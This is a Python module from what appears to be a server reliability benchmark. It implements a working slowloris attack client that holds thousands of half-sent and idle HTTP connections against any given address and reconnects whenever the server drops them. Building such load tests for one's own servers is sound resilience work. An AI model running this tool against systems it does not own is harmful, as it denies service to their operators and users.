"""The hostile clients of the slowloris row, in a process of their own so that their event loop
does not delay the honest client's measurements.

``python -m bench.reliability.attack --addr HOST:PORT --slowloris N --idle N --seconds S`` holds
N connections that send a request head one byte per second and never finish it, and N that
send one complete request, read the answer and then sit idle on the kept-alive connection.
Like a real attacker, each reconnects (after a short pause) when the server closes or refuses
it. Prints one JSON object: connections opened, closed by the server, refused or reset.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import sys
import time
from collections import Counter

SLOW_HEAD = b"GET /v2/ HTTP/1.1\r\nHost: attack\r\nX-Slow: " + b"a" * 4096
IDLE_REQUEST = b"GET /v2/ HTTP/1.1\r\nHost: attack\r\n\r\n"
BYTE_EVERY = 1.0  # seconds
RECONNECT_PAUSE = 0.5  # seconds


Streams = tuple[asyncio.StreamReader, asyncio.StreamWriter]


async def _connect(host: str, port: int, tally: Counter[str]) -> Streams | None:
    """A new connection, or None (counted, after a pause) when the server refuses it."""
    try:
        streams = await asyncio.open_connection(host, port)
    except OSError:
        tally["refused"] += 1
        await asyncio.sleep(RECONNECT_PAUSE)
        return None
    tally["opened"] += 1
    return streams


async def _slowloris(host: str, port: int, stop: float, tally: Counter[str]) -> None:
    while time.monotonic() < stop:
        streams = await _connect(host, port, tally)
        if streams is None:
            continue
        reader, writer = streams
        sent = 0
        try:
            while time.monotonic() < stop and sent < len(SLOW_HEAD):
                writer.write(SLOW_HEAD[sent : sent + 1])
                sent += 1
                try:
                    data = await asyncio.wait_for(reader.read(1024), BYTE_EVERY)
                except TimeoutError:
                    continue  # still open: send the next byte
                if not data:
                    tally["closed_by_server"] += 1
                    break
        except OSError:
            tally["reset"] += 1
        finally:
            writer.close()
        await asyncio.sleep(RECONNECT_PAUSE)


async def _idle(host: str, port: int, stop: float, tally: Counter[str]) -> None:
    while time.monotonic() < stop:
        streams = await _connect(host, port, tally)
        if streams is None:
            continue
        reader, writer = streams
        try:
            writer.write(IDLE_REQUEST)
            await reader.readuntil(b"\r\n\r\n")
            tally["idle_answered"] += 1
            while time.monotonic() < stop:
                try:
                    data = await asyncio.wait_for(reader.read(1024), 1.0)
                except TimeoutError:
                    continue
                if not data:
                    tally["closed_by_server"] += 1
                    break
        except (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            tally["reset"] += 1
        finally:
            writer.close()
        await asyncio.sleep(RECONNECT_PAUSE)


async def attack(host: str, port: int, slowloris: int, idle: int, seconds: float) -> dict[str, int]:
    tally: Counter[str] = Counter()
    stop = time.monotonic() + seconds
    tasks = [_slowloris(host, port, stop, tally) for _ in range(slowloris)]
    tasks += [_idle(host, port, stop, tally) for _ in range(idle)]
    await asyncio.gather(*tasks)
    return dict(tally)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--addr", required=True)
    ap.add_argument("--slowloris", type=int, default=2000)
    ap.add_argument("--idle", type=int, default=2000)
    ap.add_argument("--seconds", type=float, default=45.0)
    a = ap.parse_args(argv)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 65536)), hard))
    host, _, port = a.addr.rpartition(":")
    json.dump(asyncio.run(attack(host, int(port), a.slowloris, a.idle, a.seconds)), sys.stdout)
    return 0


if __name__ == "__main__":
    sys.exit(main())
